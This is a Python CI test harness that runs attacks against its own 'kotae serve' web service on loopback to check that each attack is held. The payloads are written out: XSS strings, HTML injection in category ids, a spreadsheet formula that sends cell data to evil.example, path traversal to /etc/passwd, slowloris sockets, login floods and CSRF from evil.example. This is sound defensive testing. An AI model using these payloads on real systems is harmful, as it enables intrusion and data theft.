#!/usr/bin/env python3
"""The attack run: what an outsider tries against `kotae serve` on loopback, with scripts and
nothing but HTTP, sockets and the command line. Each attack prints one line; the run fails if
any attack gets through. Run by `.ci/run` through `tests/attack/run.sh`.

Every attack speaks from its own 127.x.y.z address, as separate outsiders would, so one
attack's per-client budget does not decide another's result.
"""

import concurrent.futures as futures
import glob
import os
import re
import shutil
import signal
import socket
import statistics
import subprocess
import sys
import threading
import time

from lib import OPERATOR, TOKEN, Server, q, run, sample_copy, workdir

RESULTS = []


def attack(name):
    def wrap(f):
        def go(ctx):
            started = time.time()
            try:
                ok, detail = f(ctx)
            except Exception as e:  # an attack that crashes the harness counts as failed
                ok, detail = False, f"{type(e).__name__}: {e}"
            RESULTS.append((name, ok, detail, time.time() - started))
            print(f"{'held ' if ok else 'OPEN '} {name}: {detail} ({time.time() - started:.1f}s)", flush=True)

        go.__name__ = f.__name__
        ATTACKS.append(go)
        return go

    return wrap


ATTACKS = []

XSS_PAGE = """---
title: "<img src=x onerror=alert(1)>返品の<script>alert(2)</script>"
category: orders
aliases: ["<svg onload=alert(3)>"]
---
本文 <script>alert(4)</script> [リンク](javascript:alert(5)) <iframe src="http://evil.example"></iframe>
"""


# 1. The failed-login limit holds under concurrency.
@attack("1 concurrent wrong logins (bearer and form)")
def login_race(ctx):
    s = ctx["server"]
    wrong = lambda i: s.get("/ops/api/search?q=a", headers={"Authorization": f"Bearer {OPERATOR}:wrong-secret-{i}"}, ip="127.0.1.1").status
    with futures.ThreadPoolExecutor(50) as pool:
        statuses = list(pool.map(wrong, range(100)))
    checked = sum(1 for st in statuses if st != 429)
    # The form: a CSRF cookie and field first, then 100 wrong passwords at once.
    page = s.get("/ops/login", ip="127.0.1.2")
    cookie = page.cookie("kotae_login_csrf")
    token = re.search(r'name="csrf" value="([^"]+)"', page.text()).group(1)
    form = lambda i: s.post("/ops/login", {"name": OPERATOR, "token": f"wrong-{i}", "csrf": token}, headers={"Cookie": cookie}, ip="127.0.1.2").status
    with futures.ThreadPoolExecutor(50) as pool:
        form_statuses = list(pool.map(form, range(100)))
    form_checked = sum(1 for st in form_statuses if st != 429)
    return checked <= 5 and form_checked <= 5, f"bearer: {checked}/100 checked, form: {form_checked}/100 checked (at most 5 each)"


# 2. Category ids cannot carry HTML, from categories.yml or from an import.
@attack("2 HTML through category ids (check and import)")
def category_ids(ctx):
    work = ctx["work"]
    content = sample_copy(work, "content-evil-cat")
    with open(os.path.join(content, "categories.yml"), "a", encoding="utf-8") as f:
        f.write("- id: 'evil\"><b id=\"pwn\">X</b><a x=\"'\n  name: 悪意\n")
    checked = run(["check", "--content", content])
    caught = checked.returncode != 0 and "categories.yml:" in (checked.stdout + checked.stderr)
    records = os.path.join(work, "evil.jsonl")
    with open(records, "w", encoding="utf-8") as f:
        f.write('{"id": "x1", "title": "テスト", "body": "本文", "category": "a\\"><meta http-equiv=\\"refresh\\" content=\\"0;url=http://evil.example\\">"}\n')
    out = os.path.join(work, "imported")
    run(["import", records, "--out", out])
    cats = open(os.path.join(out, "categories.yml"), encoding="utf-8").read() if os.path.exists(os.path.join(out, "categories.yml")) else ""
    ids = re.findall(r"^- id: *['\"]?([^'\"\n]*)", cats, re.M)
    clean = bool(ids) and all(re.fullmatch(r"[a-z0-9][a-z0-9_\-/]*", i) for i in ids)
    rechecked = run(["check", "--content", out]).returncode == 0
    return caught and clean and rechecked, f"check reports the bad id: {caught}; imported ids {ids} valid: {clean}; import passes check: {rechecked}"


# 3. Weak operators in the settings file refuse the start.
@attack("3 weak or empty [operators] in kotae.toml")
def weak_operators(ctx):
    results = []
    for name, secret in [("weak", "a"), ("empty", "")]:
        srv = Server(ctx["work"], ctx["content"], f'\n[operators]\n{name} = "{secret}"\n', name=f"weak-{name}")
        srv.start(wait=False)
        try:
            code = srv.proc.wait(30)
        except subprocess.TimeoutExpired:
            code = None
        srv.stop()
        results.append(code not in (None, 0) and name in srv.log())
    return all(results), f"refused with the operator named: {results}"


# 4. Anonymous writes and counted reads are limited per client.
@attack("4 floods of questions, votes, views and hand-overs")
def floods(ctx):
    s = ctx["server"]
    before = s.count("SELECT COUNT(*) FROM questions")
    statuses = [s.post("/questions", {"question": f"スパム{i}"}, ip="127.0.2.1").status for i in range(40)]
    views = [s.get("/articles/orders/cancel", ip="127.0.2.2").status for _ in range(150)]
    goes = [s.get("/contact/go?channel=form&q=x", ip="127.0.2.3").status for _ in range(40)]
    time.sleep(1.5)  # search, view and hand-over events are written in batches
    stored = s.count("SELECT COUNT(*) FROM questions") - before
    counted_views = s.count("SELECT COUNT(*) FROM events WHERE kind = 'view' AND article = 'orders/cancel'")
    limited = 429 in statuses and 429 in views and 429 in goes
    return limited and stored < 20 and counted_views <= 1, (
        f"questions: {stored}/40 stored, 429s {statuses.count(429)}; views: {views.count(429)} refused, {counted_views} counted; "
        f"hand-overs: {goes.count(429)} refused"
    )


# 5. Slowloris: connections that never finish their headers are closed; others still get in.
@attack("5 slowloris (200 sockets with partial headers)")
def slowloris(ctx):
    s = ctx["server"]
    socks = []
    for i in range(200):
        c = socket.create_connection(("127.0.0.1", s.port), timeout=5, source_address=(f"127.0.3.{i % 250 + 1}", 0))
        c.sendall(b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ")
        socks.append(c)
    during = s.get("/healthz", ip="127.0.3.254").status
    time.sleep(ctx["header_timeout"] + 1.5)
    closed = 0
    for c in socks:
        try:
            c.settimeout(2)
            closed += c.recv(1024) == b"" or True
        except (ConnectionResetError, BrokenPipeError):
            closed += 1
        except socket.timeout:
            pass
        finally:
            c.close()
    return closed == len(socks) and during == 200, f"{closed}/200 closed after the header timeout; /healthz during the attack: {during}"


# 6. Insights: bounded ranges.
@attack("6 insights over all time (from=0001-01-01)")
def insights_range(ctx):
    r = ctx["server"].as_operator("/ops/insights?from=0001-01-01&to=2026-12-01")
    return r.status == 400, f"status {r.status}"


# 7. Customer text reaching agents' tools is neutralised.
@attack("7 formula injection and terminal control characters")
def neutralised(ctx):
    s = ctx["server"]
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"クリック")'
    s.post("/questions", {"question": formula}, ip="127.0.7.1")
    s.post("/questions", {"question": "ターミナル\x1b]0;pwned\x07\x1b[2J\r消す"}, ip="127.0.7.2")
    csv = s.as_operator("/ops/insights.csv?report=questions").text()
    safe_csv = formula not in csv.replace('""', '"').replace("'=", "") and "'=HYPERLINK" in csv.replace('""', '"')
    report = run(["report", "--events", s.events, "--index", s.index])
    raw = any(ch in report.stdout for ch in "\x1b\x07\r")
    return safe_csv and not raw, f"CSV cell starts with an apostrophe: {safe_csv}; raw ESC/BEL/CR in the report: {raw}"


# 8. The manual cannot be seen from the public side.
@attack("8 the manual through public scores, suggestions and health")
def manual_side_channel(ctx):
    s, bare = ctx["server"], ctx["no_manual"]
    differ = []
    for word in ["いしゃりょう", "きんせんようきゅう", "エスカレーシヨン", "エスカレーション"]:
        for path in [f"/api/answer?q={q(word)}", f"/api/search?q={q(word)}", f"/api/suggest?q={q(word)}"]:
            a, b = s.get(path, ip="127.0.8.1").json(), bare.get(path, ip="127.0.8.2").json()
            for v in (a, b):
                v.pop("search_id", None)
            if a != b:
                differ.append(path)
    ha, hb = s.get("/healthz", ip="127.0.8.1").json(), bare.get("/healthz", ip="127.0.8.2").json()
    health_same = (ha["pages"], ha["documents"]) == (hb["pages"], hb["documents"])
    return not differ and health_same, f"answers that depend on the manual: {differ or 'none'}; /healthz counts the same: {health_same}"


# 9. Retention 0 is off.
@attack("9 KOTAE_RETENTION_DAYS=0 at start")
def retention_zero(ctx):
    s = ctx["server"]
    copy = os.path.join(ctx["work"], "retention.sqlite3")
    import sqlite3

    src = sqlite3.connect(s.events)
    dst = sqlite3.connect(copy)
    src.backup(dst)
    src.close()
    dst.close()
    rows = lambda: sum(sqlite3.connect(copy).execute(f"SELECT COUNT(*) FROM {t}").fetchone()[0] for t in ("searches", "events", "questions"))
    before = rows()
    srv = Server(ctx["work"], ctx["content"], "", env={"KOTAE_RETENTION_DAYS": "0", "KOTAE_EVENTS_DB": copy}, name="retention", index=s.index)
    srv.start()
    time.sleep(1)
    srv.stop()
    after = rows()
    return before > 0 and after >= before, f"{before} rows before, {after} after"


# 10. A damaged generation is refused; the service keeps answering.
@attack("10 a damaged generation published")
def damaged_generation(ctx):
    s = ctx["server"]
    served = open(os.path.join(s.index, "CURRENT")).read().strip()
    bad = os.path.join(s.index, "gen-99990101T000000.000000Z-1")
    shutil.copytree(os.path.join(s.index, served), bad)
    biggest = max(glob.glob(os.path.join(bad, "public", "tantivy", "*")), key=os.path.getsize)
    with open(biggest, "r+b") as f:
        f.truncate(os.path.getsize(biggest) // 2)
    with open(os.path.join(s.index, "CURRENT.tmp"), "w") as f:
        f.write(os.path.basename(bad))
    os.replace(os.path.join(s.index, "CURRENT.tmp"), os.path.join(s.index, "CURRENT"))
    time.sleep(2)
    statuses = [s.get(f"/api/search?q={q('返品')}", ip="127.0.10.1").status for _ in range(5)]
    generation = s.get("/healthz", ip="127.0.10.1").json()["generation"]
    with open(os.path.join(s.index, "CURRENT"), "w") as f:
        f.write(served)
    alive = s.proc.poll() is None
    return alive and statuses == [200] * 5 and generation == served, f"alive: {alive}; searches: {statuses}; still serving the good generation: {generation == served}"


# 11. Operator names cannot be told apart by timing.
@attack("11 operator names by timing")
def name_timing(ctx):
    s = ctx["server"]

    def timed(name, i):
        started = time.perf_counter()
        s.get("/ops/api/search?q=a", headers={"Authorization": f"Bearer {name}:wrong-{i}"}, ip=f"127.0.11.{i + 1}")
        return time.perf_counter() - started

    known = [timed(OPERATOR, i) for i in range(0, 24, 2)]
    unknown = [timed("nobody-by-that-name", i) for i in range(1, 24, 2)]
    ratio = statistics.median(unknown) / statistics.median(known)
    return 0.5 < ratio < 2.0, f"median unknown/known = {ratio:.2f} ({statistics.median(known) * 1000:.1f} ms vs {statistics.median(unknown) * 1000:.1f} ms)"


# 12. Extreme dates answer 400.
@attack("12 an extreme date (to=+262142-12-31)")
def extreme_date(ctx):
    statuses = [ctx["server"].as_operator(f"/ops/insights?{p}").status for p in ["to=%2B262142-12-31", "from=-262143-01-01", "to=9999-99-99"]]
    return statuses == [400, 400, 400], f"statuses {statuses}"


@attack("lowercase bearer")
def lowercase_bearer(ctx):
    r = ctx["server"].as_operator(f"/ops/api/search?q={q('返品')}", scheme="bearer")
    return r.status == 200, f"status {r.status}"


# What already held, kept held.
@attack("internal pages on every public route")
def internal_probes(ctx):
    s = ctx["server"]
    ids = ["manual/" + os.path.basename(p)[:-3] for p in glob.glob(os.path.join(ctx["content"], "manual", "*.md"))]
    leaks = []
    for i in ids:
        for path in [f"/articles/{i}", f"/api/articles/{i}"]:
            if s.get(path, ip="127.0.12.1").status != 404:
                leaks.append(path)
    for word in ["エスカレーション", "慰謝料", "スーパーバイザー", "manual", "audience:internal"]:
        for path in [f"/api/search?q={q(word)}&audience=all", f"/api/suggest?q={q(word)}", f"/search?q={q(word)}&audience=internal"]:
            if "manual/" in s.get(path, ip="127.0.12.2").text():
                leaks.append(path)
    for path in ["/sitemap.xml", "/api/categories", "/", "/api/openapi.json"]:
        if "manual/" in s.get(path, ip="127.0.12.3").text():
            leaks.append(path)
    return not leaks, f"{len(ids)} manual pages probed; leaks: {leaks or 'none'}"


@attack("XSS in queries, Markdown and front matter")
def xss(ctx):
    s = ctx["server"]
    found = []
    for path in [f"/search?q={q('<script>alert(1)</script>')}", "/articles/orders/xss-probe", f"/search?q={q('返品')}", "/categories/orders"]:
        r = s.get(path, ip="127.0.13.1")
        if "text/html" not in r.headers.get("content-type", ""):
            continue
        body = r.text()
        for needle in ["<script>alert", "<img src=x", "<svg onload", "javascript:alert", "<iframe"]:
            if needle in body:
                found.append(f"{path}: {needle}")
    return not found, f"raw markup found: {found or 'none'}"


def session(s, ip):
    """Log in through the console form; the session cookie."""
    page = s.get("/ops/login", ip=ip)
    cookie = page.cookie("kotae_login_csrf")
    token = re.search(r'name="csrf" value="([^"]+)"', page.text()).group(1)
    r = s.post("/ops/login", {"name": OPERATOR, "token": TOKEN, "csrf": token}, headers={"Cookie": cookie}, ip=ip)
    return r.cookie("kotae_session")


@attack("CSRF: other origins, cross-site fetches, missing console tokens")
def csrf(ctx):
    s = ctx["server"]
    vote = {"id": "orders/cancel", "helpful": "yes"}
    statuses = [
        s.post("/feedback", vote, headers={"Origin": "http://evil.example"}, ip="127.0.14.1").status,
        s.post("/feedback", vote, headers={"Sec-Fetch-Site": "cross-site"}, ip="127.0.14.2").status,
        s.post("/questions", {"question": "x"}, headers={"Origin": "http://evil.example"}, ip="127.0.14.3").status,
        s.request("POST", "/ops/logout", headers={"Cookie": session(s, "127.0.14.4")}, ip="127.0.14.4").status,
    ]
    return all(st == 403 for st in statuses), f"statuses {statuses} (403 expected)"


@attack("path traversal, oversized URLs, bodies and headers")
def oversized(ctx):
    s = ctx["server"]
    bad = []
    for path in ["/articles/../../etc/passwd", "/assets/..%2F..%2FCargo.toml", "/articles/%2e%2e/%2e%2e/Cargo.toml", "/assets/%2e%2e%2fREADME.md"]:
        r = s.get(path, ip="127.0.15.1")
        if r.status == 200 or "root:" in r.text() or "[package]" in r.text():
            bad.append(f"{path}: {r.status}")
    long_url = s.get("/search?q=" + "a" * 6000, ip="127.0.15.2").status
    big_body = s.post("/questions", {"question": "a" * 20_000}, ip="127.0.15.3").status
    try:
        big_header = s.get("/", headers={"X-Big": "a" * 100_000}, ip="127.0.15.4").status
    except (ConnectionError, OSError):
        big_header = "closed"
    ok = not bad and long_url == 414 and big_body == 413 and big_header != 200 and (big_header == "closed" or big_header < 500)
    return ok, f"traversal: {bad or 'none'}; long URL {long_url}, big body {big_body}, big header {big_header}"


@attack("kill -9 while votes are posted")
def killed_votes(ctx):
    srv = Server(ctx["work"], ctx["content"], "", name="votes", index=ctx["server"].index)
    srv.start()
    acked = []
    stop = threading.Event()

    def voter(n):
        i = 0
        while not stop.is_set():
            ip = f"127.0.{16 + n}.{i % 250 + 1}"
            try:
                if srv.post("/api/feedback", '{"id": "orders/cancel", "helpful": true}', headers={"Content-Type": "application/json"}, ip=ip, timeout=5).status in (200, 202):
                    acked.append(1)
            except OSError:
                return
            i += 1

    threads = [threading.Thread(target=voter, args=(n,)) for n in range(4)]
    for t in threads:
        t.start()
    time.sleep(2)
    srv.proc.send_signal(signal.SIGKILL)
    srv.proc.wait()
    stop.set()
    for t in threads:
        t.join()
    stored = srv.count("SELECT COUNT(*) FROM events WHERE kind = 'vote'")
    return len(acked) > 0 and stored >= len(acked), f"{len(acked)} votes acknowledged, {stored} stored"


def main():
    work = workdir()
    ctx = {"work": work, "header_timeout": 1.0}
    try:
        content = sample_copy(work)
        with open(os.path.join(content, "orders", "xss-probe.md"), "w", encoding="utf-8") as f:
            f.write(XSS_PAGE)
        ctx["content"] = content
        settings = "header_read_timeout_ms = 1000\nmax_connections_per_client = 0\n"
        ctx["server"] = Server(work, content, settings).start()
        public = sample_copy(work, "content-public", manual=False)
        shutil.copy(os.path.join(content, "orders", "xss-probe.md"), os.path.join(public, "orders", "xss-probe.md"))
        ctx["no_manual"] = Server(work, public, settings, name="public").start()
        only = sys.argv[1:]
        for go in ATTACKS:
            if not only or any(o in go.__name__ for o in only):
                go(ctx)
    finally:
        for key in ("server", "no_manual"):
            if key in ctx:
                ctx[key].stop()
        shutil.rmtree(work, ignore_errors=True)
    failed = [r for r in RESULTS if not r[1]]
    print(f"\n{len(RESULTS) - len(failed)}/{len(RESULTS)} attacks held")
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
